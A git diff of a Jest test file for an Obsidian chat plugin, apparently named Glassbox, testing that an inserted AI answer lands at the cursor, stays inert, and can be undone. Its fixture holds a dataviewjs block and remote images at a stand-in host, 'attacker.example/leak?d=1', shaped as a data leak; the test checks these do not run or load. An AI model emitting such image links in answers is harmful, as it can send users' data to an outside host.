@@ -1,8 +1,7 @@
 import { act, within } from '@testing-library/react/pure';
-import type { Editor } from 'obsidian';
 import GlassboxPlugin from '../../src/main';
 import type { ChatView } from '../../src/obsidian/chat/chat-view';
-import { createFakeApp } from '../../tools/fake-obsidian';
+import { clearPluginRuns, createFakeApp, FakeDataviewPlugin, pluginRuns, renderReadingView, type App, type MarkdownView } from '../../tools/fake-obsidian';
 import { scenario, startModelServer, type ModelServer } from '../../tools/model-server';
 import manifestJson from '../../manifest.json';
 import { callsSettled } from '../support/calls-settled';
@@ -15,32 +14,56 @@ afterEach(async () => {
   server = null;
 });
 
+// What the chat shows inert (docs/decisions/inert-answer-code.md): code Dataview runs, raw HTML, a remote image.
+const RISKY_ANSWER = 'Refunds take **14 days**, see [[Refund policy]].\n\n```dataviewjs\ndv.paragraph("hi")\n```\n\n<img src="https://attacker.example/raw.png"> ![chart](https://attacker.example/leak?d=1)';
+
 async function loadWithServer() {
-  server = await startModelServer({ scenarios: { cite: scenario().turn((t) => t.reasoning('Thinking about refunds.').text('Refunds take **14 days**, see [[Refund policy]].')) } });
-  const app = createFakeApp();
+  server = await startModelServer({
+    scenarios: { cite: scenario().turn((t) => t.reasoning('Thinking about refunds.').text('Refunds take **14 days**, see [[Refund policy]].')), risky: scenario().turn((t) => t.text(RISKY_ANSWER)) },
+  });
+  const app = createFakeApp({ rawHtml: true });
   await app.vault.adapter.write(`${app.vault.configDir}/plugins/${manifestJson.id}/data.json`, JSON.stringify({ provider: 'custom', baseUrl: server.url, model: 'cite', apiKeySecretName: '' }));
   const plugin = await app.loadPlugin(GlassboxPlugin, manifestJson);
   const command = (id: string) => app.commands.commands[`glassbox:${id}`];
   return { app, plugin, command };
 }
 
+/** `Draft.md` open in an editor of the main area. */
+async function openDraft(app: App, text: string) {
+  const file = await app.vault.create('Draft.md', text);
+  const leaf = app.workspace.getLeaf(false);
+  await act(async () => leaf.openFile(file, { active: true }));
+  const view = leaf.view as MarkdownView;
+  return { leaf, view, editor: view.editor };
+}
+
+/** Opens the chat, asks `question` of `model` (the settings' by default) and waits for the answer. */
+async function askInChat(app: App, question: string, model?: string): Promise<ChatView> {
+  await act(async () => {
+    app.commands.executeCommandById('glassbox:open-chat');
+    await Promise.resolve();
+  });
+  const view = app.workspace.getLeavesOfType('glassbox-chat')[0].view as unknown as ChatView;
+  if (model !== undefined) act(() => view.controller.configureNextRun({ model }));
+  await sendMessage(view.contentEl, question);
+  await until(() => !view.controller.store.getState().running && view.controller.lastAnswer() !== null);
+  return view;
+}
+
 describe('plugin commands', () => {
   it('insert last answer puts the answer, markers stripped, at the cursor; stop only applies to a running answer; new chat empties the view', async () => {
     const { app, plugin, command } = await loadWithServer();
-    const editor = { replaceSelection: jest.fn() } as unknown as Editor & { replaceSelection: jest.Mock };
-    expect(command('insert-last-answer').editorCheckCallback!(true, editor, {} as never)).toBe(false);
-    await act(async () => {
-      app.commands.executeCommandById('glassbox:open-chat');
-      await Promise.resolve();
-    });
-    const view = app.workspace.getLeavesOfType('glassbox-chat')[0].view as unknown as ChatView;
-    await sendMessage(view.contentEl, 'How long do refunds take?');
-    await until(() => !view.controller.store.getState().running && view.contentEl.textContent.includes('14 days'));
+    const draft = await openDraft(app, 'Line one\nLine two');
+    expect(command('insert-last-answer').editorCheckCallback!(true, draft.editor as never, draft.view as never)).toBe(false);
+    const view = await askInChat(app, 'How long do refunds take?');
     expect(command('stop').checkCallback!(true)).toBe(false);
 
-    expect(command('insert-last-answer').editorCheckCallback!(true, editor, {} as never)).toBe(true);
-    command('insert-last-answer').editorCheckCallback!(false, editor, {} as never);
-    expect(editor.replaceSelection).toHaveBeenCalledWith('Refunds take **14 days**, see [[Refund policy]].');
+    draft.editor.setCursor({ line: 0, ch: 8 });
+    await act(async () => {
+      await app.workspace.revealLeaf(draft.leaf);
+      expect(app.commands.executeCommandById('glassbox:insert-last-answer')).toBe(true);
+    });
+    expect(draft.editor.getValue()).toBe('Line oneRefunds take **14 days**, see [[Refund policy]].\nLine two');
 
     await act(async () => {
       app.commands.executeCommandById('glassbox:new-chat');
@@ -48,6 +71,48 @@ describe('plugin commands', () => {
     });
     expect(view.contentEl.querySelector('[data-testid="chat-empty"]')).not.toBeNull();
     expect(view.roots.live).toBe(0);
+    await act(async () => plugin.unload());
+  });
+
+  it('insert last answer inserts it as the chat shows it (nothing runs in the note, links stay), after the selection, never in the properties, the cursor after it, and undo takes it back', async () => {
+    const { app, plugin } = await loadWithServer();
+    await app.loadPlugin(FakeDataviewPlugin, { id: 'dataview', name: 'Dataview', version: '0.5.68' } as never);
+    clearPluginRuns();
+    const note = '---\ntags: [draft]\n---\nLine one\nLine two';
+    const draft = await openDraft(app, note);
+    const view = await askInChat(app, 'How long do refunds take?', 'risky');
+    const insert = async () => {
+      await act(async () => {
+        await app.workspace.revealLeaf(draft.leaf);
+        expect(app.commands.executeCommandById('glassbox:insert-last-answer')).toBe(true);
+      });
+    };
+    // "Line one" selected: it stays, the answer follows it.
+    draft.editor.setSelection({ line: 3, ch: 0 }, { line: 3, ch: 8 });
+    await insert();
+    const text = draft.editor.getValue();
+    expect(text.startsWith('---\ntags: [draft]\n---\nLine oneRefunds take **14 days**, see [[Refund policy]].\n\n```')).toBe(true);
+    expect(text.endsWith('leak?d=1)\nLine two')).toBe(true);
+    // The cursor is after the answer, ready to write on.
+    expect(draft.editor.posToOffset(draft.editor.getCursor())).toBe(text.length - '\nLine two'.length);
+    // It reads as the chat showed it: the zero-width spaces are the only difference.
+    expect(text.replace(/\u200b/g, '')).toBe(`---\ntags: [draft]\n---\nLine one${view.controller.lastAnswer()}\nLine two`);
+    const el = document.body.createDiv();
+    await renderReadingView(app, { path: 'Draft.md', el });
+    expect(pluginRuns).toEqual([]);
+    expect(el.querySelectorAll('img[src^="https://attacker.example"]')).toHaveLength(0);
+    expect(el.querySelector('a.internal-link')?.getAttribute('data-href')).toBe('Refund policy');
+
+    await act(async () => {
+      app.commands.executeCommandById('glassbox:undo-last-change');
+      await until(() => draft.editor.getValue() === note);
+    });
+    // A cursor in the properties puts it after them, on lines of its own.
+    draft.editor.setCursor({ line: 1, ch: 3 });
+    await insert();
+    expect(draft.editor.getValue().startsWith('---\ntags: [draft]\n---\nRefunds take')).toBe(true);
+    expect(draft.editor.getValue().endsWith('leak?d=1)\n\nLine one\nLine two')).toBe(true);
+    el.remove();
     await act(async () => plugin.unload());
   });
 
